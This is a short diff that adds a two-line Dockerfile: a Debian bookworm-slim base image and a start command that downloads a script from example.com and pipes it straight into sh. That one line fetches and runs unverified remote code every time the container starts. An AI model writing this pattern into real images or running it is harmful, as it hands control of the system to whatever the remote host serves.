@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+CMD curl https://example.com/i | sh
